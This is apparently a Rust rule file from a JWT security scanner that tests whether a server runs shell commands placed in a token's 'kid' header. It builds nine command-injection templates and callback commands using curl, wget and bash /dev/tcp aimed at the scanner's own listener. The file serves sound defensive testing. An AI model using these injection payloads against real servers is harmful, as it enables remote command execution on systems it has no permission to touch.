//! HDR-09: kid command injection.

use super::call_back::{Lure, cast, no_listener, path};
use crate::live::Prober;
use crate::rules::prelude::*;

pub(super) static RULE: Rule = Rule {
    id: "HDR-09",
    title: "kid command injection",
    tier: Tier::OutOfBand,
    severity: Severity::Critical,
    references: "RFC 8725 3.10; WSTG-SESS-10; CWE-78",
    why: "A `kid` that reaches a shell is a shell for everyone.",
    fix: "Never pass `kid` to a shell.",
    bad: Example::behaviour("A `kid` with a command makes the server call back."),
    good: Example::behaviour("`kid` is looked up in a map."),
    checks: &[Check::Probe(probe)],
};

fn probe(prober: &mut Prober) -> Outcome {
    let Some(listener) = prober.listener() else { return no_listener() };
    let scene = prober.scene();
    let forge = scene.forge();
    let Some(key) = forge.own_keys().iter().find(|key| key.public_jwk().is_some()) else {
        return Outcome::not_tested("no key could be made");
    };
    let kid = scene.valid.kid().unwrap_or("key");
    let mut lures = Vec::new();
    for (number, (what, pattern)) in PATTERNS.into_iter().enumerate() {
        let path = path(prober, RULE.id, number + 1);
        let (host, port) = (listener.address().ip(), listener.address().port());
        let command = if pattern.contains("SOCKET") {
            format!("bash -c 'printf \"GET {path} HTTP/1.0\\r\\n\\r\\n\" >/dev/tcp/{host}/{port}'")
        } else {
            format!("curl -s -m 2 {0} || wget -q -T 2 -O- {0}", listener.url(&path))
        };
        let kid = pattern.replace("KID", kid).replace("COMMAND", &command).replace("SOCKET", &command);
        let header = forge.header(&key.algorithm().to_string()).with("kid", kid.as_str().into());
        lures.push(Lure { attempt: forge.signed_by(&format!("kid with a command {what}"), &header, key), path });
    }
    // A command is worse than a forgery, accepted or not.
    cast(prober, lures, Severity::Critical, "The server runs a command that the token names")
}

/// How a command is put into a `kid`, and in words.
const PATTERNS: [(&str, &str); 9] = [
    ("behind a semicolon", "KID; COMMAND;"),
    ("behind a semicolon, through a socket", "KID; SOCKET;"),
    ("behind a pipe", "KID| COMMAND"),
    ("alone behind a pipe", "|COMMAND"),
    ("in the background", "KID& COMMAND &"),
    ("as a substitution", "KID$(COMMAND)"),
    ("in backquotes", "KID`COMMAND`"),
    ("behind a single quote", "KID'; COMMAND; '"),
    ("behind a double quote", "KID\"; COMMAND; \""),
];
